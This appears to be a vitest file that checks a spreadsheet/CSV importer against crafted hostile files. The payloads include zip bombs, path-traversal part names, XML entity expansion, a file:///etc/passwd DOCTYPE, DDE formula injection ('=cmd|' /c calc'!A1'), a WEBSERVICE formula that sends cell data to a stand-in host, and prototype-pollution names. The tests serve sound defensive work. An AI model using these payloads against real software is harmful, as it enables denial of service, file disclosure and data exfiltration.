import { loadValue, Workbook } from '@kerfbook/workbook';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../csv/write.ts';
import { importFile } from '../import-file.ts';
import { handmade, handmadeParts, packed } from '../testing/handmade.ts';

const ROW = '<row r="1"><c r="A1"><v>1</v></c></row>';
const GOOD = { sheets: { S: ROW } };

/** What is said of a file that is not opened. No test here measures a time: what hangs has the time of its test. */
function refused(bytes: Uint8Array, name = 'x.xlsx'): string {
  const read = importFile(bytes, name);
  if (read.ok) throw new Error('it was taken in');
  expect(read.says).toMatch(/^[A-Z"].*[.]$/s);
  expect(read.says.length).toBeLessThan(400);
  return read.says;
}

function taken(bytes: Uint8Array) {
  const read = importFile(bytes, 'x.xlsx');
  if (!read.ok) throw new Error(read.says);
  return read;
}

/** A file whose sheet is this, whatever it is. */
const withSheet = (text: string): Uint8Array =>
  handmade({ ...GOOD, parts: { 'xl/worksheets/sheet1.xml': text } });

const MB = 1024 * 1024;

describe('files that were made to do harm', () => {
  it('that unpack to far more than they are', () => {
    expect(refused(withSheet(`<worksheet>${' '.repeat(200 * MB)}</worksheet>`))).toContain(
      'unpacks to more',
    );
    const many = Object.fromEntries(Array.from({ length: 30 }, (_, at) => [`S${at}`, ROW]));
    const parts = handmadeParts({ sheets: many });
    const filler = strToU8(`<worksheet>${' '.repeat(4 * MB)}${'<sheetData/>'}</worksheet>`);
    for (const at of Object.keys(many).keys()) parts[`xl/worksheets/sheet${at + 1}.xml`] = filler;
    expect(refused(packed(parts))).toContain('unpacks to more');
  });

  it('that say they unpack to little', () => {
    const bytes = withSheet(`<worksheet>${' '.repeat(30 * MB)}</worksheet>`);
    const name = 'xl/worksheets/sheet1.xml';
    // Its length in the list at the end, 22 bytes before its name there.
    const at = Buffer.from(bytes).lastIndexOf(name);
    new DataView(bytes.buffer).setUint32(at - 22, 1000, true);
    expect(refused(bytes)).toMatch(/damaged|unpacks to more/);
  });

  it('that have more parts than any file, two parts of one name, or parts that share their bytes', () => {
    const many = Object.fromEntries(
      Array.from({ length: 3000 }, (_, at) => [`p${at}`, new Uint8Array(1)]),
    );
    expect(refused(packed({ ...handmadeParts(GOOD), ...many }))).toContain('3006 parts');
    const twice = Buffer.from(
      packed({
        ...handmadeParts(GOOD),
        'xl/aaaaaaaa.xml': new Uint8Array(1),
        'xl/bbbbbbbb.xml': new Uint8Array(1),
      }),
    );
    const place = twice.lastIndexOf('xl/bbbbbbbb.xml');
    twice.write('xl/aaaaaaaa.xml', place);
    expect(refused(twice)).toContain('two parts called');
    const shared = Buffer.from(packed(handmadeParts(GOOD), 0));
    const first = shared.lastIndexOf('xl/styles.xml');
    const second = shared.lastIndexOf('xl/sharedStrings.xml');
    shared.writeUInt32LE(shared.readUInt32LE(second - 4), first - 4);
    expect(refused(shared)).toContain('damaged');
  });

  it('whose parts lead out of the file', () => {
    for (const name of ['../../x.xml', '/etc/x.xml', 'C:/x.xml', 'xl\\..\\..\\x.xml']) {
      expect(refused(packed({ ...handmadeParts(GOOD), [name]: new Uint8Array(1) }))).toContain(
        'leads out of the file',
      );
    }
  });

  it('that declare types and entities of their own', () => {
    const laughs = Array.from(
      { length: 9 },
      (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
    ).join('');
    expect(
      refused(withSheet(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><worksheet>&l9;</worksheet>`)),
    ).toContain('declares types of its own');
    expect(refused(withSheet('<!DOCTYPE x SYSTEM "file:///etc/passwd"><worksheet/>'))).toContain(
      'declares types of its own',
    );
    expect(refused(withSheet('<worksheet>&unknown;</worksheet>'))).toContain(
      'not written as it should be',
    );
  });

  it('nested without end, or broken off', () => {
    expect(refused(withSheet('<a>'.repeat(100_000)))).toContain('nested too deep');
    expect(refused(withSheet('<worksheet><sheetData><row'))).toContain(
      'not written as it should be',
    );
    expect(refused(withSheet('\uFFFE\u0000'))).toContain(
      'x.xml'.length > 0 ? 'damaged or no spreadsheet' : '',
    );
    const good = handmade(GOOD);
    expect(refused(good.slice(0, good.length - 30))).toContain('list of parts cannot be read');
    expect(refused(new Uint8Array())).toContain('does not begin like one');
    expect(refused(zipSync({}))).toContain('no workbook');
  });

  it('locked ones, former ones and other kinds are named', () => {
    expect(refused(Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 1, 2]))).toContain('password');
    expect(
      refused(
        zipSync({
          mimetype: strToU8('application/vnd.oasis.opendocument.text'),
          'content.xml': strToU8('<a/>'),
        }),
      ),
    ).toContain('another kind of document');
    const locked = Buffer.from(handmade(GOOD));
    const at = locked.lastIndexOf('xl/styles.xml');
    locked.writeUInt16LE(locked.readUInt16LE(at - 38) | 1, at - 38);
    expect(refused(locked)).toContain('locked with a password');
  });

  it('with columns, merges and cells beyond any sheet take no more room than they have', () => {
    const { document, told } = taken(
      handmade({
        sheets: { S: `${ROW}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>` },
        before: { S: '<cols><col min="1" max="2000000000" width="9" customWidth="1"/></cols>' },
        behind: {
          S: '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><dataValidations><dataValidation type="whole" sqref="A1:XFD1048576"><formula1>1</formula1><formula2>2</formula2></dataValidation></dataValidations>',
        },
      }),
    );
    expect(document.sheets[0]?.columns).toHaveLength(1);
    expect(document.sheets[0]?.rows).toHaveLength(1);
    expect(told.map(({ kind }) => kind)).toEqual(['merged', 'beyond']);
  });

  it('with a million shared formulas', () => {
    const cell = (row: number, column: string): string =>
      `<c r="${column}${row}"><f t="shared" si="0"/><v>1</v></c>`;
    const letters = Array.from({ length: 100 }, (_, at) =>
      at < 26
        ? String.fromCharCode(65 + at)
        : `${String.fromCharCode(64 + Math.floor(at / 26))}${String.fromCharCode(65 + (at % 26))}`,
    );
    const rows = (count: number, wide: number): string =>
      Array.from(
        { length: count },
        (_, at) =>
          `<row r="${at + 1}">${letters
            .slice(0, wide)
            .map((column) => cell(at + 1, column))
            .join('')}</row>`,
      ).join('');
    expect(refused(handmade({ sheets: { S: rows(10_000, 100) } }))).toMatch(
      /50,000 formulas|unpacks to more/,
    );
  });

  it('with array formulas that fill whole sheets, again and again', () => {
    const cell = (row: number): string =>
      `<row r="${row}"><c r="A${row}"><f t="array" ref="A${row}:ZZ9999">1+${row}</f><v>${1 + row}</v></c><c r="B${row}"><v>7</v></c></row>`;
    const { document } = taken(
      handmade({ sheets: { S: Array.from({ length: 500 }, (_, at) => cell(at + 1)).join('') } }),
    );
    expect(document.sheets[0]?.rows[499]?.cells?.c1).toEqual({ formula: '=1+500' });
    expect(document.sheets[0]?.rows[499]?.cells?.c2).toEqual({ value: 7 });
  });

  it('with macros, which are named and never kept', () => {
    const { document, told } = taken(
      handmade({
        ...GOOD,
        parts: { 'xl/vbaProject.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 77]) },
      }),
    );
    expect(told).toEqual([
      {
        kind: 'left-out',
        of: 'the file',
        says: 'Its macros are left out; nothing of them was carried out.',
      },
    ]);
    expect(JSON.stringify(document)).not.toMatch(/vba|macro/i);
  });

  it('with archives in their parts, which nobody opens', () => {
    const inner = packed({ 'a.xml': strToU8(' '.repeat(30 * MB)) });
    const { document } = taken(handmade({ ...GOOD, parts: { 'xl/embeddings/x.zip': inner } }));
    expect(document.sheets[0]?.rows).toHaveLength(1);
    expect(refused(withSheet(Buffer.from(inner).toString('latin1')))).toContain('damaged');
  });

  it('with words and names that become formulas only once they are joined', () => {
    const { document, told } = taken(
      handmade({
        strings: ['</t><t>=cmd|</t><t>\u0027 /c calc\u0027!A1'],
        names:
          '<definedName name="far_away">WEBSERVICE("http://a.invalid/"&amp;S!$A$1)</definedName>',
        sheets: {
          S: '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><f>1+far_away</f><v>5</v></c><c r="C1"><f>"="&amp;"1+1"</f><v>x</v></c></row>',
        },
      }),
    );
    const cells = document.sheets[0]?.rows[0]?.cells;
    expect(cells?.c1).toEqual({ value: "=cmd|' /c calc'!A1" });
    expect(cells?.c2?.value).toBe(5);
    expect(cells?.c3?.formula).toBe('="="&"1+1"');
    expect(told.find(({ of }) => of === 'S!B1')?.says).toContain('no function WEBSERVICE here');
    // Out again as csv, words that would be formulas there are words still.
    const loaded = loadValue(document);
    if (!loaded.ok) throw new Error(loaded.says);
    const book = Workbook.open(loaded.document);
    expect(writeCsv(book, document.sheets[0]?.id ?? '', 'values')).toMatch(
      /^'=cmd\|' \/c calc'!A1,5,'=1\+1/,
    );
  });

  it('with names of things that every object has', () => {
    const { document } = taken(
      handmade({
        sheets: { __proto__x: ROW, constructor: ROW },
        names:
          '<definedName name="__proto__">S!$A$1</definedName><definedName name="toString">constructor!$A$1</definedName>',
        parts: {
          'xl/comments1.xml':
            '<comments><commentList><comment ref="__proto__"><text><t>x</t></text></comment></commentList></comments>',
        },
      }),
    );
    expect(document.sheets).toHaveLength(2);
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as Record<string, unknown>).c).toBeUndefined();
  });

  it('with names that stand for one another, and formulas too long or too deep', () => {
    const names =
      '<definedName name="a_1">b_1+1</definedName><definedName name="b_1">a_1+1</definedName>';
    const deep = `${'('.repeat(300)}1${')'.repeat(300)}`;
    const long = `1${'+1'.repeat(5000)}`;
    const f = (ref: string, text: string): string => `<c r="${ref}"><f>${text}</f><v>7</v></c>`;
    const { told, document } = taken(
      handmade({
        names,
        sheets: {
          S: `<row r="1">${f('A1', 'a_1')}${f('B1', deep)}${f('C1', long)}${f('D1', 'REPT("x",1E9)')}${f('E1', 'A1:XFD1048576')}</row>`,
        },
      }),
    );
    expect(told.filter(({ of }) => of === 'S!A1')).toMatchObject([{ kind: 'formula' }]);
    expect(document.sheets[0]?.rows[0]?.cells?.c1?.value).toBe(7);
    expect(told.length).toBeGreaterThan(4);
  });

  it('with names that stand for many others, each of which stands for many more', () => {
    const names = Array.from({ length: 8 }, (_, at) => {
      const next = Array.from({ length: 30 }, () => `laugh_${at + 1}`).join('+');
      return `<definedName name="laugh_${at}">${at < 7 ? next : 'S!$A$1:$A$2'}</definedName>`;
    }).join('');
    const { told, document } = taken(
      handmade({
        names,
        sheets: {
          S: '<row r="1"><c r="A1"><f>laugh_0</f><v>7</v></c><c r="B1"><f>SUM(laugh_7)</f><v>7</v></c></row>',
        },
      }),
    );
    expect(told.find(({ of }) => of === 'S!A1')?.says).toContain('more letters than a formula may');
    expect(document.sheets[0]?.rows[0]?.cells?.c1?.value).toBe(7);
    expect(document.sheets[0]?.rows[0]?.cells?.c2?.formula).toContain('SUM(');
  });

  it('csv files of other signs, quotes that never end, and what looks like formulas', () => {
    const read = importFile(strToU8('a;b\n"1,5";"=cmd|\'/c calc\'!A1"\n"open'), 'x.csv');
    if (!read.ok) throw new Error(read.says);
    const [, second, third] = read.document.sheets[0]?.rows ?? [];
    expect(second?.cells?.c1?.value).toBe(1.5);
    expect(second?.cells?.c2).toEqual({ value: "=cmd|'/c calc'!A1" });
    expect(third?.cells?.c1?.value).toBe('open');
    expect(refused(Uint8Array.from([97, 0, 98]), 'x.csv')).toContain('zero bytes');
  });
});
